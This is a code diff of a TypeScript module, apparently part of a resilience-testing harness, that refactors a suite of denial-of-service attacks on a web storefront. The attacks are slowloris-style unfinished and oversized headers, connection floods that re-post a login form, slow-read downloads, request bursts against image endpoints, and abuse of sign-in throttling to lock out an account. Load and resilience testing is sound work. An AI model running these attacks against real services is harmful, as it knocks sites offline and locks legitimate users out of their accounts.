@@ -1,35 +1,24 @@
 import type { Socket } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
-import type { Attack, Target } from "./attack";
-import {
-  attackerAddress,
-  formHeaders,
-  headOf,
-  holdAndCut,
-  openSocket,
-  openSockets,
-  repeat,
-  statusFor,
-  visitorOf,
-  writeAll,
-} from "./wires";
+import { attack, type Attack, type Target } from "./attack";
+import { ask, attackerAddress, headOf, holdAndCut, openSocket, openSockets, postOf, repeat } from "./wires";
+import { visitMeanwhile, visitorOf, writeAll } from "./wires";
 
 /** Much that waits, and ends at the same moment or holds what others need. */
 
 /** The storefront gives a head up after 10 s, and looks every 2 s. */
 const HEAD_TIME_MS = 14_000;
 
-async function unfinishedHeads(target: Target): Promise<string[]> {
+async function unfinishedHeads(target: Target): Promise<void> {
   const sockets = await openSockets(target, target.connectionsMax);
   await Promise.all(sockets.map((socket) => writeAll(socket, "GET / HTTP/1.1\r\nHost: x\r\n", 2_000)));
   await holdAndCut(sockets, HEAD_TIME_MS);
-  return [];
 }
 
 /** Almost as long as node:http reads them, in as many lines as it keeps. */
 const LONG_HEAD = `GET / HTTP/1.1\r\nHost: x\r\n${Array.from({ length: 198 }, (_, at) => `x${at}: ${"v".repeat(150)}\r\n`).join("")}`;
 
-async function longHeads(target: Target): Promise<string[]> {
+async function longHeads(target: Target): Promise<void> {
   const sockets: Socket[] = [];
   // Some at a time: it is about what they take together.
   while (sockets.length < 2 * target.connectionsMax) {
@@ -39,7 +28,6 @@ async function longHeads(target: Target): Promise<string[]> {
     sockets.push(...some);
   }
   await holdAndCut(sockets, 2_000);
-  return [];
 }
 
 const SLOWED = "siege-owner@example.com";
@@ -51,27 +39,24 @@ const POSTS_PER_ADDRESS = 28;
 const DEADLINE_MS = 20_000;
 
 /** Opens the sign-in; each call of the result posts a wrong password. */
-async function signInFrom(target: Target, from: string) {
-  const visitor = visitorOf(target, "ulan=en_US", from);
+async function signInFrom(target: Target, address: number) {
+  const visitor = visitorOf(target, "ulan=en_US", attackerAddress(address));
   const page = await visitor.open("/Login");
   return (mobileNumber: string, loginPword: string) => {
     const body = new URLSearchParams({ csrf: page.field("csrf") ?? "", mobileNumber, loginPword }).toString();
-    const headers = { ...formHeaders(target), Cookie: String(visitor.jar), "Content-Length": body.length };
-    return statusFor(target, `${headOf(target, "POST /Login", headers)}${body}`, { from, deadlineMs: DEADLINE_MS });
+    return ask(target, postOf(target, "/Login", body, { Cookie: String(visitor.jar) }), address, DEADLINE_MS);
   };
 }
 
 async function prepareSignIns(target: Target) {
   await Promise.all(
     Array.from({ length: Math.ceil(WRONG / WRONG_PER_ADDRESS) }, async (_, address) => {
-      const post = await signInFrom(target, attackerAddress(300 + address));
+      const post = await signInFrom(target, 300 + address);
       for (let n = 0; n < WRONG_PER_ADDRESS; n += 1) await post(SLOWED, `wrong-${address}-${n}`);
     }),
   );
-  const senders = await Promise.all(
-    Array.from({ length: ADDRESSES }, (_, address) => signInFrom(target, attackerAddress(400 + address))),
-  );
-  const stranger = await signInFrom(target, attackerAddress(500));
+  const senders = await Promise.all(Array.from({ length: ADDRESSES }, (_, at) => signInFrom(target, 400 + at)));
+  const stranger = await signInFrom(target, 500);
   return async () => {
     const slowed = senders.flatMap((post) => Array.from({ length: POSTS_PER_ADDRESS }, () => post(SLOWED, "wrong")));
     await wait(2_000);
@@ -88,8 +73,7 @@ const TURNS_MS = 10_000;
 
 /** Each connection posts a form again as soon as it was refused; meanwhile visitors come. */
 async function fillTurns(target: Target): Promise<string[]> {
-  const body = "csrf=x&mobileNumber=a&loginPword=b";
-  const request = `${headOf(target, "POST /Login", { ...formHeaders(target), "Content-Length": body.length })}${body}`;
+  const request = postOf(target, "/Login", "csrf=x&mobileNumber=a&loginPword=b");
   const sockets: Socket[] = [];
   const addresses = Array.from({ length: TURN_ADDRESSES }, (_, index) => attackerAddress(2_000 + index));
   for (let count = 0; count < TURN_CONNECTIONS; count += 1) {
@@ -102,28 +86,19 @@ async function fillTurns(target: Target): Promise<string[]> {
     });
     socket.write(request);
   }
-  const statuses: unknown[] = [];
-  await repeat({ atATime: 1, forMs: TURNS_MS }, async (number) => {
-    const from = attackerAddress(3_000 + number);
-    statuses.push(await statusFor(target, headOf(target, "GET /Login"), { from, deadlineMs: 5_000 }));
-  });
+  const complaints = await visitMeanwhile(target, TURNS_MS);
   for (const socket of sockets) socket.destroy();
-  const served = statuses.filter((status) => status === 200).length;
-  return served < 0.9 * statuses.length ? [`only ${served} of ${statuses.length} visitors saw a page`] : [];
+  return complaints;
 }
 
 const DRAWINGS = ["/InvitationCode/qr.png", "/InvitationCode/poster.png", "/InvitationCode", "/Recharge/USDT"];
 
 /** One account asks again and again for what has to be drawn. */
-async function drawAtOnce(target: Target): Promise<string[]> {
-  const [cookie = ""] = target.accounts;
+async function drawAtOnce(target: Target): Promise<void> {
   for (const path of DRAWINGS) {
-    const request = headOf(target, `GET ${path}`, { Cookie: cookie });
-    await repeat({ atATime: 200, forMs: 3_000 }, (number) =>
-      statusFor(target, request, { from: attackerAddress(number % 500), deadlineMs: 10_000 }),
-    );
+    const request = headOf(target, `GET ${path}`, { Cookie: target.accounts[0] ?? "" });
+    await repeat({ atATime: 200, forMs: 3_000 }, (number) => ask(target, request, number % 500));
   }
-  return [];
 }
 
 const PICTURE_READERS = 400;
@@ -132,7 +107,7 @@ const PICTURE_READERS = 400;
 async function prepareUnreadPictures(target: Target) {
   const [, path = ""] = target.pictures.noise ?? [];
   const request = headOf(target, `GET ${path}`);
-  const status = await statusFor(target, request, { from: attackerAddress(1), deadlineMs: DEADLINE_MS });
+  const status = await ask(target, request, 1, DEADLINE_MS);
   if (status !== 200) throw new Error(`The picture cannot be had: ${status}`);
   return async () => {
     const sockets = await openSockets(target, PICTURE_READERS);
@@ -142,47 +117,28 @@ async function prepareUnreadPictures(target: Target) {
       await wait(5);
     }
     await holdAndCut(sockets, 5_000);
-    return [];
   };
 }
 
+const EACH_OF_20 = "20 addresses, each with 240 connections that post a form again as soon as it was refused";
+const UNFINISHED = "5,000 connections (1,000 through a proxy) with heads that do not end, all given up at once";
+const SIGN_INS = "5 addresses, each with 28 sign-ins of an account whose sign-ins are slowed by 8 s";
+
 export const WAITING: readonly Attack[] = [
-  {
-    name: "drawings",
-    item: "13",
-    sent: "one account asks for its codes and posters, 200 at a time",
+  attack("13", "drawings", "one account asks for its codes and posters, 200 at a time", {
     accounts: 1,
-    prepare: (target) => Promise.resolve(() => drawAtOnce(target)),
-  },
-  {
-    name: "turns-full",
-    item: "13",
-    sent: "20 addresses, each with 240 connections that post a form again as soon as it was refused",
-    prepare: (target) => Promise.resolve(() => fillTurns(target)),
+    prepare: (target) => () => drawAtOnce(target),
+  }),
+  attack("13", "turns-full", EACH_OF_20, {
     suits: ({ front }) => front === "direct",
-  },
-  {
-    name: "pictures-unread",
-    item: "13",
-    sent: "400 connections that ask for a picture of 3 MB, and do not read it",
+    prepare: (target) => () => fillTurns(target),
+  }),
+  attack("13", "pictures-unread", "400 connections that ask for a picture of 3 MB, and do not read it", {
     prepare: prepareUnreadPictures,
-  },
-  {
-    name: "heads-unfinished",
-    item: "13",
-    sent: "5,000 connections (1,000 through a proxy) with heads that do not end, all given up at once",
-    prepare: (target) => Promise.resolve(() => unfinishedHeads(target)),
-  },
-  {
-    name: "heads-long",
-    item: "13",
-    sent: "10,000 connections (2,000 through a proxy) with 31 kB of a head that does not end",
-    prepare: (target) => Promise.resolve(() => longHeads(target)),
-  },
-  {
-    name: "sign-ins-slowed",
-    item: "13",
-    sent: "5 addresses, each with 28 sign-ins of an account whose sign-ins are slowed by 8 s",
-    prepare: prepareSignIns,
-  },
+  }),
+  attack("13", "heads-unfinished", UNFINISHED, { prepare: (target) => () => unfinishedHeads(target) }),
+  attack("13", "heads-long", "10,000 connections (2,000 through a proxy) with 31 kB of a head that does not end", {
+    prepare: (target) => () => longHeads(target),
+  }),
+  attack("13", "sign-ins-slowed", SIGN_INS, { prepare: prepareSignIns }),
 ];
